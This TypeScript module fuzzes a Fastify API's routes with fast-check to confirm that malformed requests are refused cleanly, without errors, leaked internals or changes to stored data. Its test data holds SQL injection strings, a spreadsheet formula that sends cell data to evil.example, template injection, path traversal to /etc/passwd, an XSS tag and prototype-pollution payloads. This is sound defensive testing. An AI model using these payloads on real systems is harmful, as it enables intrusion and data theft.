import { isDeepStrictEqual } from 'node:util'
import fc from 'fast-check'

/** The part of JSON Schema that TypeBox writes for request bodies, query strings and path parameters. */
export interface JsonSchema {
  type?: string
  properties?: Record<string, JsonSchema>
  required?: string[]
  additionalProperties?: boolean | JsonSchema
  anyOf?: JsonSchema[]
  const?: unknown
  enum?: unknown[]
  items?: JsonSchema
  pattern?: string
  format?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
}

/** A route as a service registers it: Fastify's URL pattern and its request schemas. */
export interface RouteUnderTest {
  method: string
  url: string
  schema?: { params?: unknown, querystring?: unknown, body?: unknown } | undefined
}

/** A request ready for `app.inject` (or `fetch` against a base URL). */
export interface GeneratedRequest {
  method: string
  /** Path and query string. */
  url: string
  headers: Record<string, string>
  payload?: string
}

/**
 * Text that has broken services before: SQL, formula and template injection, unicode that is easy to mangle
 * (combining marks, right-to-left override, emoji sequences, byte order mark, NUL, a lone surrogate), and
 * strings that read as numbers or nothing.
 */
export const HOSTILE_TEXT: readonly string[] = [
  '\'; drop table client; --', '1\' or \'1\'=\'1', '" or ""="', '1; select pg_sleep(10); --', '$$; select 1; $$', '\\', '%', '_', '%_\\',
  'Zoë Ødegård', 'שלום עולם', 'مرحبا', '\u202egnp.exe', 'e\u0301\u0301\u0301', '👩‍👩‍👧‍👦🏳️‍🌈', '\ufeffbom', '\u0000', 'a\u0000b', '\ud800', '\uffff',
  '=HYPERLINK("http://evil.example/?"&A1)', '+1', '-1', '@SUM(1+1)', '\tindent', '\rreturn', 'line\r\nbreak',
  '${7*7}', '{{7*7}}', '%s%n%x', '../../etc/passwd', '<script>alert(1)</script>',
  'NaN', 'Infinity', '-Infinity', '1e309', '0x1F', '1_000', ' 1', '1 ', '', ' ', 'null', 'undefined', 'true', '[]', '{}', '__proto__'
]

/** Fields a body must never be able to set (server-assigned) and other names worth trying as unknown fields. */
export const SERVER_OWNED_FIELDS: readonly string[] = [
  'id', 'version', 'created_at', 'updated_at', 'created_by', 'updated_by', 'status', 'client_id', 'currency', 'paid_amount', 'role',
  'disabled', 'password_hash', 'is_admin', 'first_user', '__proto__', 'constructor', ''
]

const NUMBERS_AT_THE_EDGE: readonly number[] = [
  -1, 0, -0, 0.5, 1.5, 2 ** 31 - 1, 2 ** 31, 2 ** 53 + 2, -(2 ** 53), 1e21, 1e308, -1e308, Number.MIN_VALUE, 1e-7, 12.345, 0.1 + 0.2
]

/** Path segments that are not a plain positive integer, written as a client could send them. */
const ODD_PATH_SEGMENTS: readonly string[] = [
  '0', '-1', '1.5', '1e3', '0x1', '+1', '01', 'abc', '2147483648', '99999999999999999999', 'NaN', 'Infinity', 'null', '%20', '%00', '%E2%80%AE',
  '%zz', '%', '%C0%AF', encodeURIComponent('\'; drop table client; --'), encodeURIComponent('Zoë'), 'x'.repeat(250), '..', '%2e%2e', '1%2F2'
]

/** JSON text that is broken, hostile to parsers, or valid JSON of the wrong shape. */
const ODD_JSON_TEXT: readonly string[] = [
  '', '{', '{"a":', '}', 'nul', 'undefined', '{"a":1,}', '{\'a\':1}', '[]', 'null', '""', '0', '1e999', '"\\ud800"', '\ufeff{}',
  '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}', '{"a":1,"a":2}',
  '['.repeat(5000) + ']'.repeat(5000), '{"a":'.repeat(2000) + '1' + '}'.repeat(2000)
]

const CONTENT_TYPES: readonly string[] = [
  'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/json; charset=latin1',
  'application/json; charset=utf-8', 'application/problem+json', 'application/json, text/plain', 'application/json;;'
]

const HEADER_TEXT = fc.stringMatching(/^[\x21-\x7e][\x20-\x7e]{0,120}$/)

function clamp (value: number, low: number, high: number): number {
  return Math.min(Math.max(value, low), high)
}

function isoDay (date: Date): string {
  return date.toISOString().slice(0, 10)
}

const calendarDays = fc.date({ min: new Date('1900-01-01T00:00:00Z'), max: new Date('2199-12-31T00:00:00Z'), noInvalidDate: true }).map(isoDay)

function validString (schema: JsonSchema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0
  // Refinements (trimmed length of names and notes) are invisible in the JSON schema: stay short by default.
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 40, 60))
  if (schema.format === 'date') return calendarDays
  if (schema.format === 'date-time') return fc.date({ noInvalidDate: true }).map((date) => date.toISOString())
  if (schema.format === 'email') return fc.emailAddress().filter((email) => email.length <= maxLength || schema.maxLength === undefined)
  if (schema.pattern !== undefined) {
    return fc.stringMatching(new RegExp(schema.pattern), { size: 'small' }).filter((text) => text.length >= minLength && text.length <= (schema.maxLength ?? Infinity))
  }
  return fc.oneof(
    { arbitrary: fc.string({ minLength, maxLength, unit: 'grapheme' }), weight: 3 },
    { arbitrary: fc.constantFrom(...HOSTILE_TEXT).filter((text) => text.length >= minLength && text.length <= maxLength), weight: 1 }
  )
}

function validNumber (schema: JsonSchema): fc.Arbitrary<number> {
  // Negative numbers where no minimum is written are for the malformed values to try.
  const low = schema.minimum ?? 0
  const high = schema.maximum ?? 1_000_000
  // Small integers are ids of records that exist; the rest of the range now and then.
  if (schema.type === 'integer') return fc.oneof(fc.integer({ min: low, max: clamp(low + 5, low, high) }), fc.integer({ min: low, max: high }))
  // Money: whole numbers and cents are what clients send.
  return fc.integer({ min: clamp(Math.ceil(low * 100), -1e9, 1e9), max: clamp(Math.floor(high * 100), -1e9, 1e9) }).map((cents) => cents / 100)
}

/** A union of a number and a string is a number that may be written as a string (money: `99.5` or `"99.50"`). */
function isNumberOrNumeral (branches: JsonSchema[]): boolean {
  const types = branches.map((branch) => branch.type).sort()
  return types.length === 2 && types[0] === 'number' && types[1] === 'string'
}

/** Values the schema accepts as far as JSON Schema says (a refinement it cannot express may still refuse some). */
export function validValue (schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const)
  if (schema.enum !== undefined && schema.enum.length > 0) return fc.constantFrom(...schema.enum)
  if (schema.anyOf !== undefined && isNumberOrNumeral(schema.anyOf)) {
    const number = validNumber(schema.anyOf.find((branch) => branch.type === 'number') ?? {})
    return fc.oneof(number, number.map((value) => value.toFixed(2)))
  }
  if (schema.anyOf !== undefined && schema.anyOf.length > 0) return fc.oneof(...schema.anyOf.map(validValue))
  switch (schema.type) {
    case 'string': return validString(schema)
    case 'integer':
    case 'number': return validNumber(schema)
    case 'boolean': return fc.boolean()
    case 'null': return fc.constant(null)
    case 'array': return fc.array(validValue(schema.items ?? {}), { maxLength: 4 })
    case 'object': {
      const properties = schema.properties ?? {}
      const model = Object.fromEntries(Object.entries(properties).map(([name, property]) => [name, validValue(property)]))
      return fc.record(model, { requiredKeys: (schema.required ?? []).filter((name) => name in properties) })
    }
    default: return fc.jsonValue({ maxDepth: 2 })
  }
}

/** Arrays and objects nested deeper than any request needs, and JSON of every shape. */
const nestedJunk: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  fc.integer({ min: 20, max: 400 }).map((depth) => { let value: unknown = 'deep'; for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { a: value }; return value }),
  fc.array(fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 4 }), { maxLength: 4 })
)

function overlong (schema: JsonSchema): fc.Arbitrary<string> {
  const lengths = [(schema.maxLength ?? 100) + 1, 5_001, 70_000, 300_000]
  return fc.tuple(fc.constantFrom(...lengths), fc.constantFrom('x', 'é', '👩‍👩‍👧', ' ')).map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)))
}

/** Values a field of this schema should refuse, or that sit right at its edges. */
export function malformedValue (schema: JsonSchema): fc.Arbitrary<unknown> {
  return fc.oneof(
    { arbitrary: fc.oneof(fc.boolean(), fc.constant(null), fc.integer(), fc.double(), fc.string({ maxLength: 10 }), fc.constant([]), fc.constant({})), weight: 3 },
    { arbitrary: fc.constantFrom(...HOSTILE_TEXT), weight: 3 },
    { arbitrary: fc.constantFrom(...NUMBERS_AT_THE_EDGE), weight: 2 },
    { arbitrary: fc.constantFrom(...NUMBERS_AT_THE_EDGE).map(String), weight: 1 },
    { arbitrary: overlong(schema), weight: 1 },
    { arbitrary: nestedJunk, weight: 1 }
  )
}

type Body = Record<string, unknown>

function withField (body: Body, name: string, value: unknown): Body {
  // defineProperty, so that a field named `__proto__` is an own field that JSON.stringify writes out.
  const copy = { ...body }
  Object.defineProperty(copy, name, { value, enumerable: true, configurable: true, writable: true })
  return copy
}

function without (body: Body, name: string): Body {
  const copy = { ...body }
  delete copy[name]
  return copy
}

/**
 * Objects for an object schema: valid ones, and valid ones spoiled in one way (a field malformed, a required
 * field missing, an unknown or server-owned field added), or no object at all.
 */
export function objectVariants (schema: JsonSchema): fc.Arbitrary<unknown> {
  const valid = validValue(schema) as fc.Arbitrary<Body>
  const properties = Object.keys(schema.properties ?? {})
  const required = (schema.required ?? []).filter((name) => properties.includes(name))
  const variants: Array<fc.WeightedArbitrary<unknown>> = [
    { arbitrary: valid, weight: 4 },
    { arbitrary: fc.tuple(valid, fc.constantFrom(...SERVER_OWNED_FIELDS, 'x-unknown'), malformedValue({})).map(([body, name, value]) => withField(body, name, value)), weight: 2 },
    { arbitrary: fc.tuple(valid, fc.string({ minLength: 1, maxLength: 30, unit: 'grapheme' }), fc.jsonValue({ maxDepth: 1 })).map(([body, name, value]) => withField(body, name, value)), weight: 1 },
    { arbitrary: fc.oneof(fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }), fc.string(), fc.integer(), fc.boolean(), fc.constant(null)), weight: 1 }
  ]
  if (properties.length > 0) {
    const spoilt = fc.constantFrom(...properties).chain((name) =>
      fc.tuple(valid, malformedValue(schema.properties?.[name] ?? {})).map(([body, value]) => withField(body, name, value)))
    variants.push({ arbitrary: spoilt, weight: 6 })
  }
  if (required.length > 0) {
    variants.push({ arbitrary: fc.tuple(valid, fc.constantFrom(...required)).map(([body, name]) => without(body, name)), weight: 2 })
  }
  return fc.oneof(...variants)
}

/** Percent-encoding, with a lone surrogate (which a URL cannot carry) sent as U+FFFD. */
function percentEncoded (text: string): string {
  return encodeURIComponent(text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'))
}

function queryPart (name: string, value: unknown): string[] {
  const key = percentEncoded(name)
  if (Array.isArray(value)) return value.flatMap((item) => queryPart(name, item))
  if (value !== null && typeof value === 'object') return [`${key}=${percentEncoded(JSON.stringify(value))}`, `${key}[a]=1`]
  return [`${key}=${percentEncoded(String(value))}`]
}

function encodeQuery (value: unknown): string {
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return `?q=${percentEncoded(JSON.stringify(value) ?? '')}`
  const parts = Object.entries(value).flatMap(([name, item]) => queryPart(name, item))
  return parts.length === 0 ? '' : `?${parts.join('&')}`
}

const ODD_QUERY_TEXT = fc.constantFrom('?', '?&&', '?limit', '?limit=', '?limit=%', '?limit=%zz', '?limit=1&limit=2', '?limit[]=1', '?a[b][c]=1',
  '?%00=%00', '?limit=501', '?limit=0', '?offset=-1', '?limit=1e2', `?name=${'x'.repeat(5000)}`, '?__proto__[admin]=1', '?constructor[prototype][admin]=1')

/** Query strings (with their `?`, or empty) that a querystring schema accepts. */
export function validQueryStrings (schema: JsonSchema | undefined): fc.Arbitrary<string> {
  return schema === undefined ? fc.constant('') : validValue(schema).map(encodeQuery)
}

/** Query strings a route should refuse or ignore: spoilt objects, unknown parameters, raw junk. */
export function oddQueryStrings (schema: JsonSchema | undefined): fc.Arbitrary<string> {
  const objects = schema === undefined ? fc.dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 20 }), { minKeys: 1, maxKeys: 3 }) : objectVariants(schema)
  return fc.oneof({ arbitrary: objects.map(encodeQuery), weight: 4 }, { arbitrary: ODD_QUERY_TEXT, weight: 1 })
}

/** A path for a Fastify URL pattern (`/clients/:id/notes/:noteId`), each parameter valid, or one of them odd. */
export function paths (url: string, schema: JsonSchema | undefined, ids: fc.Arbitrary<number>, odd: boolean): fc.Arbitrary<string> {
  const parts = url.split('/')
  const parameters = parts.filter((part) => part.startsWith(':'))
  const valid = (name: string) => schema?.properties?.[name]?.type === 'integer'
    ? ids.map(String)
    : validValue(schema?.properties?.[name] ?? { type: 'string', minLength: 1 }).map((value) => percentEncoded(String(value)))
  const oddSegment = fc.oneof(
    { arbitrary: fc.constantFrom(...ODD_PATH_SEGMENTS), weight: 3 },
    { arbitrary: fc.string({ minLength: 1, maxLength: 20, unit: 'grapheme' }).map(percentEncoded), weight: 1 }
  )
  return fc.integer({ min: 0, max: Math.max(0, parameters.length - 1) }).chain((spoilt) => {
    let index = -1
    return fc.tuple(...parts.map((part) => {
      if (!part.startsWith(':')) return fc.constant(part)
      index += 1
      return odd && index === spoilt ? oddSegment : valid(part.slice(1))
    })).map((segments) => segments.join('/'))
  })
}

interface EncodedBody { payload?: string, contentType?: string }

function jsonBody (value: unknown): EncodedBody {
  return { payload: JSON.stringify(value) ?? 'null', contentType: 'application/json' }
}

/** Bodies a route should refuse: spoilt objects, broken JSON, odd numerals, other media types, nothing. */
function oddBodies (schema: JsonSchema | undefined): fc.Arbitrary<EncodedBody> {
  const spoilt = (schema === undefined ? fc.jsonValue({ maxDepth: 2 }) : objectVariants(schema)).map(jsonBody)
  const brokenJson = fc.constantFrom(...ODD_JSON_TEXT).map((payload): EncodedBody => ({ payload, contentType: 'application/json' }))
  // A number written in JSON can say what JavaScript cannot: 1e999 parses to Infinity.
  const oddNumerals = fc.tuple(schema === undefined ? fc.constant({}) : validValue(schema), fc.constantFrom('1e999', '-1e999', '-0', '1E2', '0.1e1', '100000000000000000000000'))
    .map(([value, numeral]): EncodedBody => {
      const text = JSON.stringify(value) ?? '{}'
      return { payload: /:-?\d/.test(text) ? text.replace(/:(-?\d+(\.\d+)?)([,}])/, `:${numeral}$3`) : `{"amount":${numeral}}`, contentType: 'application/json' }
    })
  const otherMedia = fc.tuple(fc.constantFrom(...CONTENT_TYPES), fc.oneof(fc.constant('a=1&b=2'), fc.constant('{"name":"x"}'), fc.string({ maxLength: 40 })))
    .map(([contentType, payload]): EncodedBody => ({ payload, contentType }))
  const nothing = fc.constantFrom<EncodedBody>({}, { contentType: 'application/json' }, { payload: '', contentType: 'application/json' })
  return fc.oneof(
    { arbitrary: spoilt, weight: 8 },
    { arbitrary: brokenJson, weight: 2 },
    { arbitrary: oddNumerals, weight: 1 },
    { arbitrary: otherMedia, weight: 1 },
    { arbitrary: nothing, weight: 1 }
  )
}

function oddHeaders (method: string): fc.Arbitrary<Record<string, string>> {
  const odd = fc.oneof(HEADER_TEXT, fc.constantFrom('*', '"1"', 'W/"1"', '"1", "2"', '""', 'x'.repeat(2000), '"99999999999999999999"'))
  return fc.record({
    'if-match': odd,
    'idempotency-key': method === 'POST' ? odd : fc.constant(''),
    'x-request-id': odd,
    traceparent: odd,
    accept: fc.constantFrom('*/*', 'text/csv', 'application/xml', 'nonsense')
  }, { requiredKeys: [] }).map((headers) => Object.fromEntries(Object.entries(headers).filter(([, value]) => value !== '')))
}

export interface RequestOptions {
  /** Ids for path parameters; biased towards records the test made so that requests reach real rows. */
  ids?: fc.Arbitrary<number>
  /** Headers every request carries (the caller's `authorization`). */
  headers?: Record<string, string>
}

/** Ids that mostly hit the first few records of a table, sometimes any id at all. */
export const FEW_IDS = fc.oneof({ arbitrary: fc.integer({ min: 1, max: 6 }), weight: 3 }, { arbitrary: fc.integer({ min: 1, max: 2147483647 }), weight: 1 })

type Spoilt = 'nothing' | 'path' | 'query' | 'body' | 'headers'

/**
 * Requests for one route built from its schemas. Each spoils at most one part (path parameter, query string,
 * body or headers), so that the rest is valid and the request gets as far into the service as it can; about
 * one in five spoils nothing and may well succeed.
 */
export function requestsFor (route: RouteUnderTest, options: RequestOptions = {}): fc.Arbitrary<GeneratedRequest> {
  const schema = route.schema ?? {}
  const params = schema.params as JsonSchema | undefined
  const querystring = schema.querystring as JsonSchema | undefined
  const body = schema.body as JsonSchema | undefined
  const takesBody = route.method === 'POST' || route.method === 'PUT' || route.method === 'PATCH'
  const ids = options.ids ?? FEW_IDS
  const parts: Array<fc.WeightedArbitrary<Spoilt>> = [
    { arbitrary: fc.constant('nothing'), weight: 3 },
    { arbitrary: fc.constant('query'), weight: 2 },
    { arbitrary: fc.constant('headers'), weight: 1 }
  ]
  // A GET with a body is something no HTTP client sends (fetch refuses to).
  if (route.method !== 'GET') parts.push({ arbitrary: fc.constant('body'), weight: takesBody ? 7 : 1 })
  if (route.url.includes(':')) parts.push({ arbitrary: fc.constant('path'), weight: 2 })
  return fc.oneof(...parts).chain((spoilt) => fc.record({
    path: paths(route.url, params, ids, spoilt === 'path'),
    query: spoilt === 'query' ? oddQueryStrings(querystring) : validQueryStrings(querystring),
    headers: spoilt === 'headers' ? oddHeaders(route.method) : fc.constant({}),
    body: spoilt === 'body' ? oddBodies(body) : takesBody && body !== undefined ? validValue(body).map(jsonBody) : fc.constant<EncodedBody>({})
  })).map(({ path, query, headers, body }) => ({
    method: route.method,
    url: `${path}${query}`,
    headers: { ...headers, ...(body.contentType !== undefined ? { 'content-type': body.contentType } : {}), ...options.headers },
    ...(body.payload !== undefined ? { payload: body.payload } : {})
  }))
}

/** What a client must never see in an error: stack frames, file paths, SQL or driver messages. */
export const INTERNALS = /\n\s+at |node_modules|\.ts:\d+|\.js:\d+|\bselect\b.+\bfrom\b|\binsert into\b|\bupdate\b.+\bset\b|syntax error|violates|duplicate key|relation "|column "|SQLSTATE|MikroORM|knex|TypeError|ReferenceError/i

export interface ObservedReply { status: number, contentType: string | undefined, body: string }

/** The part of a Fastify app that answers an injected request, without the service's process or network. */
export interface InjectableApp {
  inject: (request: GeneratedRequest) => Promise<{ statusCode: number, headers: Record<string, unknown>, body: string }>
}

/** Sends generated requests straight to an app with `inject`, observing what a client would see. */
export function injectedInto (app: InjectableApp): (request: GeneratedRequest) => Promise<ObservedReply> {
  return async (request) => {
    const response = await app.inject(request)
    return { status: response.statusCode, contentType: response.headers['content-type'] as string | undefined, body: response.body }
  }
}

/**
 * What is wrong with the reply to a request that may be bad input, or undefined if nothing: a 5xx, an error
 * that is not problem+json with a matching status, or an error body that shows internals.
 */
export function faultOf (reply: ObservedReply): string | undefined {
  if (reply.status >= 500) return `answered ${reply.status}: ${reply.body.slice(0, 300)}`
  if (reply.status < 400) return undefined
  if (!/^application\/problem\+json/.test(reply.contentType ?? '')) return `answered ${reply.status} as ${reply.contentType ?? 'no content type'}: ${reply.body.slice(0, 200)}`
  let problem: { status?: unknown, type?: unknown, title?: unknown, detail?: unknown }
  try {
    problem = JSON.parse(reply.body) as typeof problem
  } catch {
    return `answered ${reply.status} with a problem body that is not JSON: ${reply.body.slice(0, 200)}`
  }
  if (problem.status !== reply.status || typeof problem.type !== 'string' || typeof problem.title !== 'string') return `problem does not match its status ${reply.status}: ${reply.body.slice(0, 200)}`
  if (typeof problem.detail === 'string' && INTERNALS.test(problem.detail)) return `problem shows internals: ${problem.detail.slice(0, 300)}`
  return undefined
}

export interface BadInputCheck {
  route: RouteUnderTest
  send: (request: GeneratedRequest) => Promise<ObservedReply>
  /** What is stored, compared around every refused request and every read. */
  fingerprint: () => Promise<unknown>
  request?: RequestOptions
  numRuns: number
  /** Fixed, so that a failure seen once is seen again. */
  seed: number
}

/**
 * The bad-input property of one route: whatever the request, no 5xx, every error problem+json without
 * internals, and nothing stored changes when the request is refused (or only reads).
 */
export async function assertBadInputRefusedCleanly (check: BadInputCheck): Promise<void> {
  await fc.assert(fc.asyncProperty(requestsFor(check.route, check.request), async (request) => {
    const before = await check.fingerprint()
    const reply = await check.send(request)
    const where = `${request.method} ${request.url.slice(0, 300)} ${(request.payload ?? '').slice(0, 300)}`
    const fault = faultOf(reply)
    if (fault !== undefined) throw new Error(`${where}\n${fault}`)
    if (reply.status >= 400 || request.method === 'GET') {
      const after = await check.fingerprint()
      if (!isDeepStrictEqual(before, after)) throw new Error(`${where}\nanswered ${reply.status} but changed what is stored: ${JSON.stringify(before)} -> ${JSON.stringify(after)}`)
    }
  }), { numRuns: check.numRuns, seed: check.seed })
}

interface ApiParameter { name: string, in: string, required?: boolean, schema?: JsonSchema }
interface ApiOperation { parameters?: ApiParameter[], requestBody?: { content?: Record<string, { schema?: JsonSchema }> } }

/** An OpenAPI document as far as request generation needs it. */
export interface ApiDocument { paths: Record<string, Record<string, ApiOperation | unknown>> }

const HTTP_METHODS = new Set(['get', 'post', 'put', 'patch', 'delete'])

function parametersIn (operation: ApiOperation, where: string): JsonSchema | undefined {
  const parameters = (operation.parameters ?? []).filter((parameter) => parameter.in === where)
  if (parameters.length === 0) return undefined
  return {
    type: 'object',
    properties: Object.fromEntries(parameters.map((parameter) => [parameter.name, parameter.schema ?? {}])),
    required: parameters.filter((parameter) => parameter.required === true).map((parameter) => parameter.name),
    additionalProperties: false
  }
}

/** Every operation of an OpenAPI document as a route with Fastify's URL pattern and its request schemas. */
export function routesOfApiDocument (document: ApiDocument): RouteUnderTest[] {
  return Object.entries(document.paths).flatMap(([path, operations]) => Object.entries(operations)
    .filter(([method]) => HTTP_METHODS.has(method))
    .map(([method, given]) => {
      const operation = given as ApiOperation
      return {
        method: method.toUpperCase(),
        url: path.replace(/\{(\w+)\}/g, ':$1'),
        schema: { params: parametersIn(operation, 'path'), querystring: parametersIn(operation, 'query'), body: operation.requestBody?.content?.['application/json']?.schema }
      }
    }))
}
